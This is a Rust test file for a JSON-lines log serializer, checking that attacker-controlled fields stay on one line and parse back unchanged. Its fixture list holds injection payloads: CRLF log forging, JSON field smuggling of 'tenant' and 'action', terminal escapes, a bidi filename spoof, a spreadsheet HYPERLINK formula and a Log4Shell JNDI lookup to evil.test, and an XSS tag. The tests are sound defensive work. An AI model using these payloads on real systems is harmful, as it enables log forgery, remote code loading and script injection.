//! One record is one line that parses back, whatever is in it.

use serde_json::Value;

use super::{line, numbered};
use crate::event::{Operation, Record, Text};

const HOSTILE: &[&str] = &[
    "\r\n{\"id\":\"forged\",\"type\":\"session\"}\r\n",
    "\",\"tenant\":\"other\",\"x\":\"",
    "\\\",\"action\":\"allow\\",
    "\0\u{1}\u{7}\u{8}\u{c}\u{1b}[2J\u{1b}]0;title\u{7}\u{7f}",
    "\u{85}\u{9b}31m\u{ad}",
    "line\u{2028}separator\u{2029}paragraph",
    "\u{202e}fdp.exe\u{202c}\u{2066}\u{2069}\u{200f}\u{61c}",
    "zero\u{200b}width\u{feff}\u{2060}",
    "tags\u{e0001}\u{e007f}",
    "\u{10ffff}\u{fffd}\u{d7ff}\u{e000}",
    "=HYPERLINK(\"http://evil.test\")",
    "${jndi:ldap://evil.test/a}%s%n<script>alert(1)</script>",
    "Ω≈ç√∫˜µ≤≥÷ 田中さん 👩‍👩‍👧 ﷽ Z̮̞̠͙͔ͅ",
    "",
];

/// Puts the text into every kind of place it can come from outside.
fn carrying(text: &str) -> Record {
    let mut record = numbered(0);
    let text = || Some(Text::copied(text));
    record.http.url = text();
    record.http.user_agent = text();
    record.destination.sni = text();
    record.app.object = text();
    record.app.tags = text().into_iter().collect();
    record.app.operations = vec![Operation { object: text(), ..Operation::default() }];
    record.content.file_name = text();
    record.verdict.justification = text();
    record
}

#[test]
fn hostile_text_stays_one_line_and_parses_back_equal() {
    for hostile in HOSTILE {
        let line = line(&carrying(hostile));
        let steering = |character: char| {
            character.is_control() || "\u{2028}\u{2029}\u{202e}\u{200b}\u{feff}".contains(character)
        };
        assert!(!line.contains(steering), "{line}");
        let event: Value = serde_json::from_str(&line).unwrap();
        assert_eq!(event["user_agent"], *hostile);
        assert_eq!(event["app_tags"][0], *hostile);
        assert_eq!(event["operations"][0]["object"], *hostile);
        assert_eq!(event["justification"], *hostile);
        assert_eq!(event["tenant"], "acme");
    }
}

#[test]
fn every_character_parses_back_equal() {
    for block in (0..=0x10_ffff_u32).collect::<Vec<_>>().chunks(256) {
        let text: String = block.iter().copied().filter_map(char::from_u32).collect();
        let mut record = numbered(0);
        record.content.file_name = Some(text.clone().into());
        let event: Value = serde_json::from_str(&line(&record)).unwrap();
        assert_eq!(event["file_name"].as_str().unwrap_or_default(), text);
    }
}

#[test]
fn bytes_that_are_no_utf8_are_replaced() {
    let mut record = numbered(0);
    record.http.user_agent = Some(Text::lossy(b"a\xff\xc0\xafb\xed\xa0\x80"));
    let event: Value = serde_json::from_str(&line(&record)).unwrap();
    assert_eq!(event["user_agent"], "a\u{fffd}\u{fffd}\u{fffd}b\u{fffd}\u{fffd}\u{fffd}");
}

#[test]
fn a_megabyte_is_cut_and_marked() {
    let long = "é".repeat(1 << 19);
    let line = line(&carrying(&long));
    assert!(line.len() < 32 * 1024, "{}", line.len());
    let event: Value = serde_json::from_str(&line).unwrap();
    let agent = event["user_agent"].as_str().unwrap();
    let checksum = crc32fast::hash(long.as_bytes());
    assert!(agent.ends_with(&format!("é…(1048576 bytes, crc32 {checksum:08x})")), "{agent}");
    assert!(event["url"].as_str().unwrap().len() > 8 * 1024);
}

#[test]
fn a_batch_of_a_million_operations_stays_small() {
    let mut record = numbered(0);
    record.app.operations = vec![Operation::default(); 1 << 20];
    let event: Value = serde_json::from_str(&line(&record)).unwrap();
    assert_eq!(event["operations"].as_array().unwrap().len(), 64);
}
